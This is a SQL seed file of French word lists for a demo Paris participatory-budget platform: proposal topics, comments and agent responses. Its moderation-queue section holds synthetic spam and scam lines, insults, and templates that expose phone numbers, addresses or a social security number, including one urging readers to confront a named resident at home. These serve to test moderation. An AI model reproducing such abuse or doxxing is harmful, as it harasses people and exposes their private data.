-- The words of the demo city: what Parisians propose (by topic) and how
-- they write about it, what agents answer, and what a moderation queue
-- really holds. Sentences may hold place holders filled by demo.fill
-- ({le} {du} {dans} {sur} {arr} {qp} {ans}) or by the generator ({n}
-- {url} {phone} {email} {name} {street}).

-- The topics of proposals. A "topic:" line opens one:
--   topic: code|theme|department|weight|lowest cost|highest cost (euros)
-- then its titles (title: in a district, city: city-wide), the problem and
-- the detail sentences of the bodies, remarks of commenters, and the labels
-- of its cost lines (investment, studies, operating).
create or replace function demo.topic_list()
returns table (ord int, code text, theme text, dept text, weight float8,
	cost_lo bigint, cost_hi bigint, titles text[], city_titles text[],
	problems text[], details text[], remarks text[],
	invest text[], studies text[], operating text[])
language sql immutable as $$
	with e as (
		select ord, key, value,
			count(*) filter (where key = 'topic') over (order by ord) as t
		from demo.entries($t$
topic: velo|mobilites|DVD|12|80000|1500000
title: Une piste cyclable sécurisée le long {du}
title: Sécuriser les cyclistes {dans}
title: Un double sens cyclable {dans}
title: Piste cyclable protégée {sur}
city: Un réseau express vélo entre les portes de Paris
city: Des pistes cyclables continues sur les grands boulevards
problem: Les vélos y circulent au milieu des voitures et des bus, c'est très dangereux aux heures de pointe.
problem: Beaucoup d'enfants vont à l'école à vélo mais aucun aménagement ne les protège.
problem: Le trafic de transit rend la circulation à vélo stressante, surtout pour les débutants.
detail: Nous proposons une piste bidirectionnelle séparée de la chaussée par une bordure, avec un marquage bien visible.
detail: Il suffirait de supprimer une file de stationnement pour créer une voie cyclable protégée.
detail: Des séparateurs en béton et des feux adaptés aux cyclistes rendraient le carrefour enfin sûr.
remark: Je prends cette rue tous les jours à vélo, c'est vraiment dangereux.
remark: Attention à ne pas supprimer toutes les places de livraison, les commerçants en ont besoin.
remark: Il faudrait aussi des arceaux pour garer les vélos.
remark: Les trottinettes vont aussi utiliser la piste, il faut la prévoir assez large.
remark: Encore une piste cyclable ? Les livreurs vont se garer dessus comme partout.
invest: Travaux de voirie et séparateurs
invest: Aménagement cyclable et marquage au sol
study: Études de circulation et de stationnement
operating: Entretien annuel du marquage au sol

topic: arbres|environnement|DEVE|12|40000|900000
title: Planter des arbres {sur}
title: Plus d'arbres et d'ombre {dans}
title: Créer un alignement d'arbres le long {du}
title: Végétaliser les pieds d'arbres {dans}
city: Planter 1 000 arbres dans les rues les plus minérales
city: Une forêt urbaine sur les places parisiennes
problem: La rue est très minérale et devient une fournaise l'été.
problem: Il n'y a presque pas d'ombre et les personnes âgées ne sortent plus pendant les canicules.
problem: Les fosses d'arbres sont vides depuis des années et servent de dépôt d'ordures.
detail: Nous proposons de planter des arbres d'essences variées (tilleuls, érables, micocouliers) avec des pieds d'arbres végétalisés.
detail: Les fosses pourraient être plantées et entretenues par les riverains avec un permis de végétaliser.
detail: Des arbres de haute tige, adaptés au réchauffement climatique, choisis avec les jardiniers de la Ville.
remark: Les arbres apportent de la fraîcheur, c'est indispensable avec les canicules.
remark: Attention aux racines et aux réseaux sous la chaussée.
remark: Et qui arrosera les jeunes arbres l'été ?
remark: Oui ! Des micocouliers comme rue de la Roquette, ça tient bien.
remark: Les feuilles mortes vont boucher les caniveaux, personne n'y pense.
invest: Fourniture et plantation d'arbres
invest: Création de fosses de plantation
study: Sondages des réseaux souterrains
operating: Arrosage et entretien des jeunes arbres (3 ans)

topic: oasis|education_jeunesse|DASCO|10|150000|1200000
title: Transformer la cour de l'école {du} en cour Oasis
title: Une cour Oasis pour l'école {du}
title: Désimperméabiliser la cour de l'école {du}
city: Des cours Oasis dans toutes les écoles élémentaires
city: Des cours d'école ouvertes aux habitants le samedi
problem: La cour est entièrement bitumée, sans ombre, et dépasse 40 °C en juin.
problem: Les enfants n'ont aucun coin calme, tout l'espace est occupé par le football.
problem: Quand il pleut, la cour est inondée et les enfants restent enfermés.
detail: Nous proposons de remplacer le bitume par des sols perméables, de planter des arbres, d'installer des fontaines et des jeux en bois.
detail: La cour pourrait être ouverte aux habitants du quartier le week-end, comme les autres cours Oasis.
detail: Un coin potager et des bancs à l'ombre permettraient aux enfants de souffler pendant la récréation.
remark: Mes enfants sont dans cette école, la cour est une vraie poêle à frire en juin.
remark: Les cours Oasis déjà faites sont une réussite, il faut continuer.
remark: Pensez à associer les enfants au projet, ils ont plein d'idées.
remark: Le sable et les copeaux, c'est sale en hiver, attention au choix des sols.
invest: Désimperméabilisation et revêtements perméables
invest: Plantations et mobilier en bois
study: Étude et concertation avec l'équipe éducative
operating: Entretien des espaces plantés

topic: bancs|cadre_de_vie|DVD|7|15000|150000
title: Des bancs {dans}
title: Installer des bancs et des assises {sur}
title: Pouvoir s'asseoir {dans}
city: Un banc tous les 200 mètres sur les grands axes
city: Des assises adaptées aux personnes âgées dans tout Paris
problem: Il n'y a aucun banc entre le marché et la station de métro, les personnes âgées doivent s'appuyer contre les façades.
problem: Les anciens bancs ont été retirés et jamais remplacés.
detail: Nous demandons des bancs avec dossier et accoudoirs, plus faciles à utiliser pour les personnes âgées.
detail: Quelques assises en bois, à l'ombre, près de l'arrêt de bus.
remark: Ma mère a 85 ans, elle ne peut pas faire la rue sans s'asseoir.
remark: Des bancs, oui, mais avec des accoudoirs.
remark: Les bancs vont attirer du monde la nuit, c'est déjà bruyant.
invest: Fourniture et pose de bancs
invest: Scellements et reprise du trottoir
study: Relevé de l'existant

topic: fontaine|cadre_de_vie|DPE|6|20000|250000
title: Une fontaine à boire {dans}
title: Installer une fontaine Wallace {sur}
title: De l'eau potable gratuite {dans}
city: Des fontaines d'eau pétillante dans chaque arrondissement
city: Des brumisateurs pour les épisodes de canicule
problem: En été, il n'y a aucun point d'eau pour les promeneurs et les sportifs.
problem: Les sans-abri du quartier n'ont aucun accès à l'eau potable.
detail: Une fontaine raccordée au réseau d'Eau de Paris, accessible aux personnes en fauteuil roulant.
detail: Une fontaine avec un robinet bas pour remplir les gourdes et les gamelles des chiens.
remark: Une fontaine pétillante comme au parc de Belleville, ce serait génial.
remark: Indispensable l'été, surtout pour les enfants.
remark: Les fontaines sont souvent en panne, qui va les entretenir ?
invest: Fourniture de la fontaine
invest: Raccordement au réseau d'eau potable
study: Étude de raccordement
operating: Consommation d'eau et maintenance annuelle

topic: sport|sport|DJS|8|50000|900000
title: Rénover le terrain de sport près {du}
title: Un city-stade près {du}
title: Des agrès de fitness en accès libre {sur}
city: Des équipements de street workout dans tous les parcs
city: Ouvrir les terrains de sport de proximité le dimanche
problem: Le terrain est en très mauvais état, le revêtement est fissuré et les buts sont cassés.
problem: Les jeunes du quartier n'ont aucun endroit pour faire du sport gratuitement.
problem: Les filles ne viennent jamais sur le terrain, il n'est pas pensé pour elles.
detail: Nous proposons un terrain multisports avec un revêtement neuf, des filets pare-ballons et un éclairage.
detail: Des agrès de musculation en libre accès, avec des panneaux expliquant les exercices.
detail: Un terrain partagé avec des créneaux réservés aux filles et aux associations.
remark: Le city-stade fait du bruit jusqu'à minuit, pensez aux riverains.
remark: Top, mon fils y joue tous les mercredis.
remark: Il faudrait aussi un point d'eau à côté.
invest: Revêtement sportif et équipements
invest: Clôtures et filets pare-ballons
study: Diagnostic du terrain existant
operating: Éclairage et maintenance des équipements

topic: compost|environnement|DPE|6|10000|120000
title: Des composteurs de quartier {dans}
title: Un site de compostage partagé près {du}
title: Composter nos déchets alimentaires {dans}
city: Un composteur collectif dans chaque square
city: Des bacs à biodéchets dans toutes les rues
problem: Un tiers de nos poubelles est fait de déchets alimentaires qui pourraient être valorisés.
problem: Les habitants en immeuble n'ont aucun moyen de composter.
detail: Des composteurs en bois gérés par une association de maîtres composteurs avec les habitants volontaires.
detail: Un site fermé à clé, ouvert deux fois par semaine avec des référents du quartier.
remark: J'ai un lombricomposteur chez moi, je veux bien aider.
remark: Attention aux rats, il faut des bacs bien fermés.
remark: Le compost pourra servir aux jardinières de la rue.
invest: Fourniture des composteurs
invest: Aménagement du site de compostage
study: Repérage des emplacements
operating: Animation par une association (annuelle)

topic: fresque|culture_patrimoine|DAC|5|15000|200000
title: Une fresque murale {dans}
title: Embellir le mur aveugle {du}
title: Un parcours de street art {dans}
city: Un festival de fresques dans les quartiers populaires
city: Des œuvres d'art sous le métro aérien
problem: Le mur est couvert de tags et donne une impression d'abandon.
problem: La rue est grise et triste, personne ne s'y attarde.
detail: Une fresque réalisée par des artistes du quartier avec les enfants des écoles voisines.
detail: Un appel à artistes, avec un vote des habitants pour choisir l'œuvre.
remark: Il faut des artistes du quartier, pas une grosse agence.
remark: Ça égaiera enfin cette rue.
remark: Et dans deux mois ce sera retagué.
invest: Réalisation de l'œuvre
invest: Préparation du support et échafaudage
study: Appel à candidatures d'artistes
operating: Vernis anti-graffiti et retouches annuelles

topic: livres|culture_patrimoine|DAC|4|10000|600000
title: Une boîte à livres {dans}
title: Agrandir la bibliothèque près {du}
title: Un coin lecture en plein air {dans}
city: Des bibliothèques ouvertes le dimanche
city: Des boîtes à livres dans tous les squares
problem: La bibliothèque la plus proche est saturée et ferme tôt.
problem: Beaucoup de familles du quartier n'ont pas de livres à la maison.
detail: Un espace de lecture couvert avec des étagères en libre-service et des assises.
detail: Une boîte à livres en bois, fabriquée par une ressourcerie, près de l'arrêt de bus.
remark: Les boîtes à livres, ça marche très bien dans le 14e.
remark: Il faudrait des livres en plusieurs langues.
remark: Elles finissent vite pleines de vieux annuaires.
invest: Mobilier et étagères
invest: Travaux d'aménagement
study: Étude de programmation
operating: Renouvellement des collections

topic: rue_ecoles|mobilites|DVD|7|30000|500000
title: Une rue aux écoles {dans}
title: Piétonniser {le} devant l'école
title: Sécuriser la sortie d'école {du}
city: Des rues aux écoles devant chaque école élémentaire
problem: À la sortie de l'école, parents et enfants se pressent sur un trottoir étroit pendant que les voitures passent.
problem: Les voitures roulent vite et se garent en double file devant l'école.
detail: Nous proposons de fermer la rue à la circulation aux heures d'entrée et de sortie, avec des jardinières et des bancs.
detail: Une rue piétonne et végétalisée, avec des jeux peints au sol.
remark: Enfin ! Chaque matin c'est la peur pour mes enfants.
remark: Et les riverains qui doivent sortir leur voiture ?
remark: Ça marche très bien rue Vaucouleurs, à généraliser.
invest: Aménagement de voirie
invest: Jardinières et mobilier
study: Étude de circulation
operating: Entretien des jardinières

topic: toilettes|proprete|DPE|4|40000|400000
title: Des toilettes publiques {dans}
title: Des sanitaires gratuits près {du}
city: Des toilettes publiques accessibles dans chaque parc
city: Des urinoirs écologiques près des lieux festifs
problem: Faute de toilettes, certains recoins de la rue servent d'urinoir, c'est insalubre.
problem: Les toilettes existantes sont toujours en panne.
detail: Des sanisettes accessibles aux personnes à mobilité réduite, nettoyées automatiquement.
detail: Des toilettes sèches entretenues, ouvertes en continu.
remark: L'odeur l'été est insupportable, merci de porter ce projet.
remark: Pensez aux familles avec des poussettes.
invest: Fourniture et pose des sanisettes
invest: Raccordements aux réseaux
study: Étude d'implantation
operating: Nettoyage et maintenance annuels

topic: solidarite|solidarites|DASES|5|50000|800000
title: Un espace d'accueil pour les personnes sans-abri près {du}
title: Des casiers solidaires {dans}
title: Une bagagerie pour les personnes à la rue près {du}
city: Des bains-douches rénovés dans tout Paris
city: Des frigos solidaires dans chaque arrondissement
problem: De nombreuses personnes dorment dans la rue et n'ont aucun endroit où laisser leurs affaires.
problem: Les associations d'aide alimentaire manquent de place pour stocker les dons.
detail: Des casiers sécurisés et un local d'accueil géré avec une association du quartier.
detail: Un local rénové avec des douches, une laverie et une bagagerie.
remark: Il était temps, la situation est indigne.
remark: Il faut travailler avec les associations qui sont déjà sur place.
remark: Ce n'est pas à la Ville de faire ça, c'est l'État.
invest: Aménagement du local
invest: Casiers et mobilier
study: Programmation avec les associations
operating: Gardiennage et animation du lieu

topic: jeux|education_jeunesse|DFPE|6|40000|500000
title: Une aire de jeux pour les tout-petits {dans}
title: Rénover l'aire de jeux près {du}
title: Des jeux inclusifs pour tous les enfants près {du}
city: Des aires de jeux inclusives dans chaque arrondissement
city: Rénover les espaces extérieurs des crèches
problem: Les jeux sont vieillissants et certains sont fermés depuis des mois.
problem: Il n'y a aucun jeu pour les enfants de moins de trois ans.
detail: Des jeux en bois pour les enfants de 1 à 6 ans, dont des jeux accessibles aux enfants en situation de handicap.
detail: Un sol souple, des bancs pour les parents et de l'ombre.
remark: Avec une poussette on ne peut même pas entrer dans le square actuel.
remark: Ma fille adore les jeux d'eau, ce serait parfait.
remark: Mettez une clôture, les chiens y vont.
invest: Fourniture des jeux
invest: Sols amortissants
study: Contrôle de sécurité et conception
operating: Maintenance et contrôles réglementaires

topic: gymnase|sport|DCPA|4|300000|3000000
title: Rénover le gymnase près {du}
title: Des vestiaires neufs pour le gymnase près {du}
title: Rénover la piscine près {du}
city: Rénover les piscines municipales
city: Des vestiaires accessibles dans tous les gymnases
problem: Le gymnase est mal isolé, les vestiaires sont vétustes et l'eau chaude manque souvent.
problem: Le bâtiment n'est pas accessible aux personnes en fauteuil.
detail: Rénovation des vestiaires, isolation de la toiture et remplacement de l'éclairage par des LED.
detail: Une mise en accessibilité complète avec un ascenseur et des vestiaires adaptés.
remark: Les clubs du quartier attendent ça depuis dix ans.
remark: Pendant les travaux, où iront les associations ?
invest: Travaux de rénovation du bâtiment
invest: Mise en accessibilité
study: Diagnostic technique et maîtrise d'œuvre
operating: Surcoût d'exploitation du bâtiment

topic: securite|prevention_securite|DVD|5|20000|400000
title: Sécuriser le passage piéton {du}
title: Mieux éclairer {le} la nuit
title: Ralentir les voitures {dans}
city: Des passages piétons surélevés devant toutes les écoles
city: Un éclairage public renforcé dans les passages souterrains
problem: Les voitures roulent beaucoup trop vite et plusieurs piétons ont été renversés.
problem: La rue est très sombre le soir et beaucoup de femmes ne s'y sentent pas en sécurité.
detail: Un plateau surélevé, des avancées de trottoir et un radar pédagogique.
detail: Un éclairage public renforcé et des luminaires à détection de présence.
remark: J'ai failli me faire renverser la semaine dernière.
remark: Un radar pédagogique ne suffira pas, il faut des ralentisseurs.
remark: L'éclairage la nuit, c'est aussi une question de sécurité pour les femmes.
invest: Travaux de voirie et signalisation
invest: Éclairage public
study: Comptages et étude de sécurité routière
operating: Consommation électrique et maintenance

topic: arceaux|mobilites|DVD|5|10000|300000
title: Des arceaux vélos {dans}
title: Un abri vélos sécurisé près {du}
city: Des parkings vélos sécurisés près des gares
city: Des box à vélos fermés dans les quartiers d'habitat social
problem: Les vélos sont attachés aux grilles et aux arbres faute d'arceaux.
problem: Plusieurs vélos ont été volés dans le hall des immeubles.
detail: Une dizaine d'arceaux sur l'ancienne place de stationnement, avec un abri couvert.
detail: Un abri vélos fermé, accessible avec un badge.
remark: Oui, et des places pour les vélos cargos.
remark: On n'a plus de place pour marcher sur le trottoir.
invest: Fourniture et pose des arceaux
invest: Abri vélos sécurisé
study: Étude d'implantation

topic: jardin|environnement|DEVE|7|30000|700000
title: Un jardin partagé près {du}
title: Végétaliser {le}
title: Transformer le parking {du} en jardin
city: Des jardins partagés sur les toits des équipements publics
city: Végétaliser les façades des bâtiments municipaux
problem: Il n'y a aucun espace vert à moins de dix minutes à pied.
problem: Un terrain vague est laissé à l'abandon depuis des années.
detail: Un jardin partagé confié à une association, avec des parcelles pour les écoles.
detail: Des bacs plantés, des plantes grimpantes et un coin de verdure ouvert à tous.
remark: Je suis prête à m'inscrire pour une parcelle.
remark: Les jardins partagés sont toujours fermés à clé, ce n'est pas pour tout le monde.
remark: Plus de vert dans ce quartier, c'est vital.
invest: Travaux de terrassement et de plantation
invest: Clôture et cabanon
study: Étude de sol
operating: Arrosage et entretien annuels

topic: emploi|attractivite_emploi|DAE|3|50000|900000
title: Un espace de travail partagé près {du}
title: Rénover le marché couvert près {du}
title: Des kiosques pour les artisans {dans}
city: Des boutiques éphémères pour les jeunes créateurs
city: Rénover les marchés couverts parisiens
problem: Les commerces ferment les uns après les autres et les rideaux restent baissés.
problem: Les jeunes du quartier manquent de lieux pour se former et travailler.
detail: Un lieu rénové, avec des espaces de travail et un accompagnement vers l'emploi.
detail: Des kiosques loués à prix modéré aux artisans et aux jeunes créateurs.
remark: Ça redonnerait vie à la rue.
remark: Ce n'est pas à la Ville de concurrencer les espaces privés.
invest: Travaux d'aménagement
invest: Mobilier et équipements
study: Étude de programmation

topic: sante|sante|DASES|3|10000|400000
title: Des défibrillateurs {dans}
title: Rénover le centre de santé près {du}
city: Des défibrillateurs dans tous les équipements publics
city: Des points de santé mobiles dans les quartiers populaires
problem: En cas d'arrêt cardiaque, le premier défibrillateur est à plus d'un kilomètre.
problem: Le centre de santé est saturé et ses locaux sont vétustes.
detail: Des défibrillateurs accessibles jour et nuit, signalés clairement, avec une formation pour les habitants.
detail: Une rénovation des salles de consultation et un accès de plain-pied.
remark: Ça sauve des vies, il en faut partout.
remark: Il faudra aussi former les gens à s'en servir.
invest: Fourniture et pose des équipements
invest: Travaux de rénovation
study: Étude des besoins
operating: Maintenance et contrôles annuels

topic: tri|proprete|DPE|5|10000|300000
title: Des poubelles de tri {dans}
title: Des cendriers de rue {dans}
title: Des colonnes à verre enterrées près {du}
city: Des stations de tri dans tous les quartiers
city: Des cendriers de sondage contre les mégots sur les grandes places
problem: Les poubelles débordent tous les soirs et les déchets s'envolent.
problem: Les mégots jonchent le trottoir devant les bars.
detail: Des corbeilles de tri à double flux, plus grandes, vidées plus souvent.
detail: Des colonnes enterrées pour le verre et les emballages, moins bruyantes.
remark: La propreté, c'est la priorité numéro un du quartier.
remark: Des poubelles en plus, mais qui va les vider ?
invest: Fourniture des mobiliers de tri
invest: Génie civil des colonnes enterrées
study: Étude d'implantation
operating: Collecte supplémentaire (annuelle)

topic: fraicheur|environnement|DEVE|5|40000|900000
title: Un îlot de fraîcheur {dans}
title: Des ombrières végétalisées {sur}
city: Des îlots de fraîcheur près des écoles et des EHPAD
city: Ouvrir les parcs la nuit pendant les canicules
problem: Pendant les canicules, il n'y a aucun endroit frais pour se réfugier.
problem: La place est écrasée de soleil de midi à 18 heures.
detail: Des ombrières couvertes de plantes grimpantes, des brumisateurs et des bancs.
detail: Un petit square ombragé avec un sol perméable et des plantes méditerranéennes.
remark: Avec le réchauffement, c'est une nécessité.
remark: Il faut de vrais arbres, pas des structures métalliques.
invest: Structures et plantations
invest: Sols perméables et mobilier
study: Étude climatique du site
operating: Entretien des plantations

topic: maison_asso|cadre_de_vie|DDCT|3|50000|700000
title: Rénover la maison des associations près {du}
title: Une salle de quartier pour les habitants {dans}
city: Des panneaux d'information numériques dans chaque quartier
city: Des salles de quartier ouvertes le soir
problem: Les associations n'ont plus de salle pour se réunir.
problem: Le local est trop petit et pas accessible.
detail: Une salle polyvalente rénovée, prêtée gratuitement aux associations et aux conseils de quartier.
detail: Une salle accessible avec une cuisine partagée.
remark: Le conseil de quartier se réunit dans un café faute de salle.
remark: Très bonne idée, il faut que ce soit gratuit.
invest: Travaux de rénovation
invest: Mobilier et équipements
study: Étude de faisabilité
operating: Gardiennage des soirées
$t$))
	select t::int,
		split_part(min(value) filter (where key = 'topic'), '|', 1),
		split_part(min(value) filter (where key = 'topic'), '|', 2),
		split_part(min(value) filter (where key = 'topic'), '|', 3),
		split_part(min(value) filter (where key = 'topic'), '|', 4)::float8,
		split_part(min(value) filter (where key = 'topic'), '|', 5)::bigint,
		split_part(min(value) filter (where key = 'topic'), '|', 6)::bigint,
		array_agg(value order by ord) filter (where key = 'title'),
		coalesce(array_agg(value order by ord) filter (where key = 'city'), '{}'),
		array_agg(value order by ord) filter (where key = 'problem'),
		array_agg(value order by ord) filter (where key = 'detail'),
		array_agg(value order by ord) filter (where key = 'remark'),
		array_agg(value order by ord) filter (where key = 'invest'),
		coalesce(array_agg(value order by ord) filter (where key = 'study'), '{}'),
		coalesce(array_agg(value order by ord) filter (where key = 'operating'), '{}')
	from e
	group by t
$$;

-- Every other list of words, as (kind, text). Kinds: first and last names,
-- pseudonyms; parts of proposal bodies; parts of comments; the reasons and
-- opinions of agents; and the bad content of a moderation queue.
create or replace function demo.phrase_list() returns table (ord bigint, kind text, value text)
language sql immutable as $$
	select ord, key, value from demo.entries($t$
first: Camille
first: Léa
first: Manon
first: Chloé
first: Emma
first: Inès
first: Sarah
first: Jade
first: Louise
first: Alice
first: Lina
first: Zoé
first: Juliette
first: Clara
first: Anna
first: Élise
first: Margaux
first: Nathalie
first: Sophie
first: Isabelle
first: Catherine
first: Sylvie
first: Valérie
first: Christine
first: Monique
first: Françoise
first: Hélène
first: Aïcha
first: Fatou
first: Mariam
first: Yasmine
first: Nadia
first: Leïla
first: Amina
first: Mei
first: Linh
first: Sofia
first: Ana
first: Hugo
first: Lucas
first: Louis
first: Gabriel
first: Arthur
first: Jules
first: Adam
first: Raphaël
first: Nathan
first: Théo
first: Paul
first: Tom
first: Maxime
first: Antoine
first: Nicolas
first: Julien
first: Thomas
first: Pierre
first: Jean
first: Philippe
first: Michel
first: Alain
first: Patrick
first: François
first: Bernard
first: Olivier
first: Laurent
first: Mohamed
first: Karim
first: Rachid
first: Mamadou
first: Moussa
first: Youssef
first: Samir
first: Mehdi
first: Omar
first: Kevin
first: Enzo
first: Quentin
first: Romain
first: Vincent
first: Christophe
first: Stéphane
first: David
first: Benoît
first: Xavier
first: Wei
first: Minh
first: Diego
first: Luca
first: Marco
first: Agnès
first: Brigitte
first: Dominique
first: Claude
last: Martin
last: Bernard
last: Dubois
last: Thomas
last: Robert
last: Richard
last: Petit
last: Durand
last: Leroy
last: Moreau
last: Simon
last: Laurent
last: Lefebvre
last: Michel
last: Garcia
last: David
last: Bertrand
last: Roux
last: Vincent
last: Fournier
last: Morel
last: Girard
last: André
last: Lefèvre
last: Mercier
last: Dupont
last: Lambert
last: Bonnet
last: François
last: Martinez
last: Legrand
last: Garnier
last: Faure
last: Rousseau
last: Blanc
last: Guérin
last: Muller
last: Henry
last: Roussel
last: Perrin
last: Morin
last: Mathieu
last: Clément
last: Gauthier
last: Dumont
last: Lopez
last: Fontaine
last: Chevalier
last: Robin
last: Masson
last: Sanchez
last: Gérard
last: Nguyen
last: Boyer
last: Denis
last: Lemaire
last: Duval
last: Joly
last: Roche
last: Noël
last: Meyer
last: Meunier
last: Perez
last: Marchand
last: Dufour
last: Blanchard
last: Barbier
last: Brun
last: Dumas
last: Brunet
last: Schmitt
last: Leroux
last: Colin
last: Fernandez
last: Renard
last: Arnaud
last: Caron
last: Aubert
last: Giraud
last: Leclerc
last: Vidal
last: Bourgeois
last: Lemoine
last: Picard
last: Gaillard
last: Lacroix
last: Fabre
last: Dupuis
last: Rodriguez
last: Da Silva
last: Hubert
last: Rivière
last: Le Gall
last: Moulin
last: Berger
last: Fleury
last: Deschamps
last: Carpentier
last: Maillard
last: Prévost
last: Charpentier
last: Diallo
last: Traoré
last: Benali
last: Haddad
last: Cissé
last: Mendy
last: Ben Ahmed
last: Koné
last: Tran
last: Pham
last: Chen
last: Wang
last: Ferreira
last: Pereira
last: Santos
last: Kaya
last: Bouzid
pseudo: velotaf{code}
pseudo: riverain_{arr}
pseudo: {first}_du_{arr}
pseudo: {first}{n}
pseudo: parent.eleve.{code}
pseudo: jardinier.{first}
pseudo: {first}.paris{n}
pseudo: citoyen{n}
domain: example.com
domain: example.net
domain: example.org
domain: mail.example.com
intro: J'habite {dans} depuis {ans} ans.
intro: Avec les voisins {du}, nous portons ce projet ensemble.
intro: Parents d'élèves du {arr}, nous passons tous les jours {dans}.
intro: Je suis commerçante {dans} et je vois le problème tous les jours.
intro: Membre du conseil de quartier, je relaie une demande de nombreux habitants {du}.
intro: Je traverse {le} chaque matin pour aller travailler.
intro: Cette proposition vient d'un atelier organisé par l'association des habitants {du}.
intro_city: Partout dans Paris, le même constat revient.
intro_city: Parisienne depuis {ans} ans, je vois la situation se dégrader dans tous les arrondissements.
intro_city: Nous sommes un collectif d'associations de plusieurs arrondissements.
intro_city: Ce projet concerne tous les Parisiens, quel que soit leur quartier.
qp: Le quartier {qp} est un quartier populaire où ce type d'équipement manque cruellement.
qp: Dans le quartier {qp}, beaucoup de familles n'ont pas d'autre espace que la rue.
qp: Les habitants du quartier {qp} demandent ce projet depuis des années.
benefit: Ce projet profiterait aux enfants comme aux personnes âgées.
benefit: Ce serait un vrai plus pour la qualité de vie du quartier.
benefit: Cela contribuerait au Plan Climat de la Ville.
benefit: Le coût resterait modeste au regard du nombre d'habitants concernés.
benefit: Les commerçants du quartier soutiennent la démarche.
closing: Merci de soutenir cette proposition !
closing: Nous sommes prêts à participer aux ateliers de co-construction.
closing: N'hésitez pas à commenter pour améliorer le projet.
closing: Votez pour ce projet !
closing: Merci d'avance pour votre soutien.
c_open_pro: Excellente idée !
c_open_pro: Je soutiens.
c_open_pro: Tout à fait d'accord.
c_open_pro: Bravo pour cette proposition.
c_open_pro: Oui, mille fois oui.
c_open_pro: Bonjour à tous.
c_open_contra: Hmm, pas convaincu.
c_open_contra: Je ne suis pas d'accord.
c_open_contra: Franchement, non.
c_open_contra: Bonjour.
c_open_contra: Pourquoi pas, mais j'ai des doutes.
c_pro: J'habite juste à côté, ce serait un vrai plus pour le quartier.
c_pro: Ça fait des années qu'on attend ça.
c_pro: Super, mes enfants seraient ravis.
c_pro: Je vote pour !
c_pro: Très bonne idée, simple et utile.
c_pro: C'est exactement ce qu'il manque ici.
c_contra: Ce budget serait mieux utilisé pour la propreté.
c_contra: Pourquoi toujours les mêmes quartiers ?
c_contra: C'était déjà proposé l'an dernier, qu'est-ce qui a bloqué ?
c_contra: Encore un projet gadget, il y a d'autres priorités.
c_contra: Les riverains n'ont pas été consultés.
c_question: Qui va payer l'entretien ?
c_question: Il faudrait en parler au conseil de quartier.
c_question: Pensez aux personnes à mobilité réduite.
c_question: Les commerçants de la rue sont-ils d'accord ?
c_question: Quel serait le calendrier des travaux ?
c_question: Est-ce que la mairie d'arrondissement est au courant ?
c_close: Merci !
c_close: À suivre.
c_close: Cordialement.
c_close: Bonne journée.
c_reply: @{name} je suis d'accord avec vous.
c_reply: @{name} pas du tout d'accord.
c_reply: @{name} exactement !
c_reply: @{name} vous avez raison.
c_reply: Je rejoins {name}.
c_reply: @{name} merci pour la précision.
wave: Gagnez jusqu'à {n} € par jour depuis chez vous, sans diplôme ni expérience !
wave: GAGNEZ {n}€ PAR JOUR depuis chez vous !!! Méthode 100 % légale.
wave: Gagnez {n} euros par jour en travaillant depuis chez vous, places limitées.
wave: gagnez {n}€ par jour depuis chez vous, testé et approuvé par des milliers de Parisiens
wave_greet: Bonjour à tous,
wave_greet: Salut !
wave_greet: Bonjour,
wave_greet: Info utile :
wave_greet: Désolé pour le hors sujet mais
spam: Rachat de crédits sans frais de dossier, réponse en 24 h : {url}
spam: Voyance sérieuse par téléphone, premier appel gratuit au {phone}
spam: Investissez dans la crypto avec notre expert, +300 % en un mois : {url}
spam: Déménagement pas cher sur tout Paris, devis gratuit au {phone}
spam: Réparation d'écran de smartphone en 30 minutes, 2 rue fictive, {url}
spam: Meilleur VTC de Paris, code promo PARIS75 sur {url}
spam: Perdez 10 kilos en 10 jours avec cette méthode naturelle : {url}
dup: Je soutiens à 100 % ! Votez pour ce projet !!!
dup: Votez et faites voter, c'est le meilleur projet de l'arrondissement !
dup: Signez aussi notre pétition pour le quartier sur https://petition.example/quartier et partagez
insult: N'importe quoi, vous êtes vraiment des guignols à la mairie.
insult: Espèce d'abruti, tu n'as jamais mis les pieds dans le quartier.
insult: Ferme-la, personne ne t'a demandé ton avis.
insult: Quelle bande de crétins, ce projet est débile.
insult: T'es qu'un bobo à vélo, va te faire voir.
insult: Tocard, retourne dans ton quartier.
insult: Bouffon. Tu ne sais même pas de quoi tu parles.
insult: Vous êtes tous des incapables et des voleurs à la mairie !
insult: Pauvre idiot, les arbres ça salit les trottoirs.
insult: Quel imbécile celui qui a écrit ça.
personal: Le gardien de l'immeuble, M. {name}, joignable au {phone}, laisse les poubelles dehors tout le week-end.
personal: Contactez-moi directement : {email} ou au {phone}.
personal: La voisine du {n} {street}, 2e étage gauche, fait du bruit toutes les nuits, elle s'appelle {name}.
personal: Pour rejoindre l'association, écrivez à {email}, téléphone {phone}.
personal: {name} habite au {n} {street}, allez lui dire ce que vous pensez de son projet.
personal: Mon numéro de sécurité sociale est 1 85 05 75 112 042 17, je veux juste que mon dossier avance.
offtopic: Quelqu'un a perdu un chat roux près du {n} {street} ? Il miaule devant ma porte depuis hier.
offtopic: Vends poussette double très bon état, 80 €, me contacter en message privé.
offtopic: Et sinon, le match d'hier soir, quelle honte...
offtopic: La mairie ferait mieux de baisser les impôts locaux au lieu de ces gadgets.
offtopic: Qui connaît un bon plombier dans le quartier ?
offtopic: Premier !
offtopic: Le métro ligne 13 est encore en panne, comme tous les matins.
r_spam: Publicité
r_spam: Lien suspect
r_spam: Encore ce spam !
r_spam: Arnaque
r_offensive: Insulte envers un autre participant
r_offensive: Propos injurieux
r_offensive: Agressif
r_personal_data: Numéro de téléphone d'un tiers
r_personal_data: Adresse personnelle publiée
r_personal_data: Il donne le nom d'une voisine
r_off_topic: Rien à voir avec la proposition
r_off_topic: Hors sujet
r_other: Ce message casse l'affichage de la page
r_other: Doublon
r_other: Je ne suis pas d'accord avec ce commentaire
r_other: Texte illisible
inadmissible: Ne relève pas de la compétence de la Ville de Paris
inadmissible: Dépense de fonctionnement, non éligible au budget d'investissement
inadmissible: Proposition insuffisamment précise pour être étudiée
inadmissible: Concerne un terrain privé ou un bailleur social
inadmissible: Projet déjà programmé par la Ville
inadmissible: Proposition hors du territoire parisien
not_selected: Avis technique défavorable
not_selected: Non retenu par la commission d'arrondissement
not_selected: Coût supérieur à l'enveloppe de l'arrondissement
not_selected: Projet déjà financé par un autre dispositif
not_winner: Nombre de voix insuffisant
withdrawn: Retiré par son auteur
withdrawn: Retiré par son autrice au profit d'un projet voisin
favourable: Projet techniquement réalisable en investissement, compatible avec les réseaux existants.
